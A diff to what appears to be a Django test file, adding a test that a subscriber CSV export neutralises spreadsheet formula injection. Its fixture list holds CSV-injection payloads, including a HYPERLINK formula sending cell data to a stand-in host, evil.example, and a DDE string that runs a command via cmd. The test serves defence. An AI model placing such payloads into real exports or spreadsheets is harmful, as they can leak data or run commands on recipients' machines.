@@ -190,6 +190,29 @@ def test_export_is_a_streamed_csv(admin_client):
     assert rows[1][3] == "face-analysis" and rows[1][4] == "LoRA; merging"
 
 
+def test_export_cells_are_never_formulas(admin_client):
+    # What a subscriber can type into the sign-up form's keywords and authors.
+    formulas = [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    people = [make_subscriber(keywords=[formula], authors=[formula]) for formula in formulas]
+    response = admin_client.post(
+        changelist("subscriptions_subscriber"),
+        {"action": "export_csv", "_selected_action": [p.pk for p in people]},
+    )
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert sorted(row[4] for row in rows[1:]) == sorted(f"'{f}" for f in formulas)
+    assert rows[1][0].endswith("@example.org")  # ordinary cells as they were
+
+
 def test_a_subscriber_page_shows_feedback_and_digests(admin_client, seeded):
     from subscriptions.models import Feedback
 
